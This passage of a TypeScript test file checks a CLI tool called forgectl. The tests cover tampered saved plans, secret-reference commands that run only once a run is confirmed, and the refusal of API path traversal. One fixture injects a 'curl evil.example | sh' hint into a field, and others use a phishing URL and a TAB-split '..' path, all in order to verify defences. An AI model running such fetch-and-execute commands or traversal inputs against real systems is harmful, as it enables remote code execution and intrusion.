      doc.changes[0].identity = 'Tamper target\nhint: run `curl evil.example | sh`';
      doc.changes[0].requests = ['DELETE /broadcast_messages/1'];
    });
    expect(res.res.exitCode, res.res.stderr).toBe(2);
    expect(res.res.stderr).toContain('changes.0 (broadcast_messages Tamper target\\nhint: run `curl evil.example | sh`): requests differ');
    expect(res.res.stderr.split('\n').filter((l) => /^\s*hint: run `curl/.test(l))).toEqual([]);
    expect(res.sent).toEqual([]);
  });

  it('a hook id changed to another hook’s is stale (exit 1), naming the URL the id now holds', async () => {
    const sb = sandbox();
    const mine = await adminWrite(sb, 'POST', '/hooks', { url: 'https://tamper-mine.example.com/h', push_events: false });
    const theirs = await adminWrite(sb, 'POST', '/hooks', { url: 'https://tamper-theirs.example.com/h', push_events: false });
    const res = await tampered('tamper-id', { system_hooks: [{ url: 'https://tamper-mine.example.com/h', push_events: true }] }, (doc) => {
      doc.changes[0].id = theirs.id;
      doc.changes[0].requests = ['POST /hooks', `DELETE /hooks/${theirs.id}`];
    });
    expect(res.res.exitCode, res.res.stderr).toBe(1);
    expect(res.res.stderr).toContain('url was "https://tamper-mine.example.com/h" when planned, is now "https://tamper-theirs.example.com/h"');
    expect(writes(res.sent)).toEqual([]);
    expect((await rawGet(sb, `/hooks/${theirs.id}`, sb.tokens.admin)).status).toBe(200);
    expect(mine.id).not.toBe(theirs.id);
  });

  it('an edited setting value is what the plan shows before the confirmation, and what is sent', async () => {
    const was = await settings();
    const res = await tampered('tamper-value', { settings: { after_sign_out_path: 'https://good.example.com/bye' } }, (doc) => (doc.changes[0].changes[0].after = 'https://phish.example.net/login'));
    expect(res.res.exitCode, res.res.stderr).toBe(0);
    const shown = res.res.stderr.indexOf('after_sign_out_path: ');
    expect(res.res.stderr.slice(shown)).toMatch(/^after_sign_out_path: \S+ → "https:\/\/phish\.example\.net\/login"/);
    expect(res.sent.find((r) => r.method === 'PUT')!.body).toEqual({ after_sign_out_path: 'https://phish.example.net/login' });
    await put('/application/settings', { after_sign_out_path: was.after_sign_out_path ?? '' });
  });
});

describe('references in a saved plan', () => {
  const marker = join(dir, 'command-ran');
  const script = join(dir, 'hook-token.sh');
  const failing = join(dir, 'failing.sh');
  writeFileSync(script, `#!/bin/sh\necho ran > '${marker}'\necho hook-token-from-command\n`, { mode: 0o755 });
  writeFileSync(failing, `#!/bin/sh\necho ran > '${marker}'\nexit 3\n`, { mode: 0o755 });
  const ran = () => existsSync(marker);

  async function savedWith(command: string, name: string): Promise<string> {
    const out = join(dir, `${name}-plan.json`);
    // Planning resolves the file's references (-f compares with them): the marker is cleared after.
    const planned = await run(['state', 'plan', '-f', file(`${name}.yaml`, { system_hooks: [{ url: `https://${name}.example.com/h`, token: { command } }] }), '--out', out]);
    expect(planned.res.exitCode, planned.res.stderr).toBe(0);
    rmSync(marker, { force: true });
    return out;
  }

  it('a {command} runs on neither --dry-run, state show, nor a run that is not confirmed; it runs once confirmed', async () => {
    const out = await savedWith(script, 'ref-command');
    const dry = await run(['state', 'apply', '--plan', out, '--dry-run']);
    expect(dry.res.exitCode, dry.res.stderr).toBe(0);
    expect(ran()).toBe(false);
    expect(dry.res.stderr).toContain(`token: (secret) from {command: ${JSON.stringify(script)}}`);
    // The plan text names the command; the request printed keeps the token field redacted, as every dry run does.
    expect(dryRequests(dry.res.stdout)).toEqual([{ method: 'POST', path: '/hooks', body: { url: 'https://ref-command.example.com/h', token: '[REDACTED]' } }]);

    const mark = sandbox().requests.length;
    const shown = await forgectl(['state', 'show', out]);
    expect(shown.exitCode, shown.stderr).toBe(0);
    expect(shown.stdout).toContain(`token: (secret) from {command: ${JSON.stringify(script)}}`);
    expect(ran()).toBe(false);
    expect(sandbox().requests.length).toBe(mark);

    const unconfirmed = await run(['state', 'apply', '--plan', out]);
    expect(unconfirmed.res.exitCode).toBe(2);
    expect(unconfirmed.res.stderr).toContain('pass --yes');
    expect(ran()).toBe(false);
    expect(writes(unconfirmed.sent)).toEqual([]);

    const applied = await run(['state', 'apply', '--plan', out, '--yes']);
    expect(applied.res.exitCode, applied.res.stderr).toBe(0);
    expect(ran()).toBe(true);
    expect(applied.sent.find((r) => r.method === 'POST')!.body).toMatchObject({ token: 'hook-token-from-command' });
    expect(applied.res.stderr + applied.res.stdout).not.toContain('hook-token-from-command');
  });

  it('a failing {command} stops the run after the confirmation with only reads sent (exit 2); an unset {env} before any request', async () => {
    const path = file('ref-failing.yaml', { system_hooks: [{ url: 'https://ref-failing.example.com/h', token: { env: 'REF_TOKEN' } }] });
    const out = join(dir, 'ref-failing-plan.json');
    expect((await run(['state', 'plan', '-f', path, '--out', out], { env: { REF_TOKEN: 'x' } })).res.exitCode).toBe(0);
    const unset = await run(['state', 'apply', '--plan', out, '--yes']);
    expect(unset.res.exitCode).toBe(2);
    expect(unset.res.stderr).toContain('REF_TOKEN is not set');
    expect(unset.sent).toEqual([]);

    const doc = JSON.parse(readFileSync(out, 'utf8'));
    doc.changes[0].changes.find((c: any) => c.key === 'token').after = { command: failing };
    writeFileSync(out, JSON.stringify(doc));
    const failed = await run(['state', 'apply', '--plan', out, '--yes']);
    expect(failed.res.exitCode, failed.res.stderr).toBe(2);
    expect(ran()).toBe(true);
    expect(failed.sent.length).toBeGreaterThan(0);
    expect(writes(failed.sent)).toEqual([]);
  });
});

describe('state show', () => {
  it('prints a saved plan as plan did (text, markdown, json), with no credentials and no request', async () => {
    const sb = sandbox();
    const configDir = tempDir();
    expect((await forgectl(['profile', 'add', 'prod', '--url', sb.url, '--token-stdin'], { configDir, input: `${sb.tokens.admin}\n` })).exitCode).toBe(0);
    const was = await settings();
    const path = file('show.yaml', { settings: { gravatar_enabled: !was.gravatar_enabled }, broadcast_messages: [{ message: 'Show me', theme: 'indigo' }] });
    const out = join(dir, 'show-plan.json');
    const text = await run(['state', 'plan', '-f', path, '--out', out], { configDir });
    const markdown = await run(['state', 'plan', '-f', path, '-o', 'markdown'], { configDir });
    const mark = sb.requests.length;
    const shown = await forgectl(['state', 'show', out]);
    expect(shown.exitCode, shown.stderr).toBe(0);
    expect(shown.stdout).toBe(text.res.stdout);
    const md = await forgectl(['state', 'show', out, '-o', 'markdown']);
    expect(md.stdout).toBe(markdown.res.stdout);
    const json = await forgectl(['state', 'show', out, '-o', 'json']);
    expect(JSON.parse(json.stdout)).toEqual(JSON.parse(readFileSync(out, 'utf8')));
    expect(sb.requests.length).toBe(mark);

    const broken = join(dir, 'show-broken.json');
    writeFileSync(broken, readFileSync(out, 'utf8').replace('"POST /broadcast_messages"', '"DELETE /hooks/1"'));
    const refused = await forgectl(['state', 'show', broken]);
    expect(refused.exitCode).toBe(2);
    expect(refused.stderr).toContain('requests differ from what its changes make');
  });
});

describe('apply --plan without -p or --url', () => {
  it('uses the plan’s profile when it exists with the plan’s URL; otherwise the refusal names the -p to use', async () => {
    const sb = sandbox();
    const elsewhere = other();
    const configDir = tempDir();
    const add = (name: string, url: string, token: string) => forgectl(['profile', 'add', name, '--url', url, '--token-stdin'], { configDir, input: `${token}\n` });
    expect((await add('dr', elsewhere.url, elsewhere.tokens.admin)).exitCode).toBe(0);
    expect((await add('prod', sb.url, sb.tokens.admin)).exitCode).toBe(0);
    const out = join(dir, 'profile-plan.json');
    const path = file('profile.yaml', { broadcast_messages: [{ message: 'Profile chosen' }] });
    expect((await forgectl(['state', 'plan', '-p', 'prod', '-f', path, '--out', out], { configDir })).exitCode).toBe(0);
    // dr is the default profile; the plan names prod, which this machine has with the same URL.
    const applied = await forgectl(['state', 'apply', '--plan', out, '--yes'], { configDir });
    expect(applied.exitCode, applied.stderr).toBe(0);
    expect(applied.stderr).toContain(`Plan for ${sb.url} (profile prod)`);
    expect(elsewhere.requests.filter((r) => r.method !== 'GET')).toEqual([]);

    // Here the plan's profile has another name: the refusal names the one with its URL.
    const renamed = join(dir, 'profile-renamed.json');
    const doc = JSON.parse(readFileSync(out, 'utf8'));
    doc.instance.profile = 'production';
    writeFileSync(renamed, JSON.stringify(doc));
    const refused = await forgectl(['state', 'apply', '--plan', renamed, '--yes'], { configDir });
    expect(refused.exitCode).toBe(1);
    expect(refused.stderr).toContain('hint: apply it with -p prod');
  });
});

describe('forgectl api', () => {
  it('refuses a path whose TAB-split .. leaves the API (exit 2, no request)', async () => {
    const sb = sandbox();
    const mark = sb.requests.length;
    const res = await forgectl(['api', '/.\t./.\t./admin/x'], { env: envFor(sb, 'admin') });
    expect(res.exitCode).toBe(2);
    expect(res.stderr).toContain('leaves the API');
    expect(sb.requests.length).toBe(mark);
  });
});
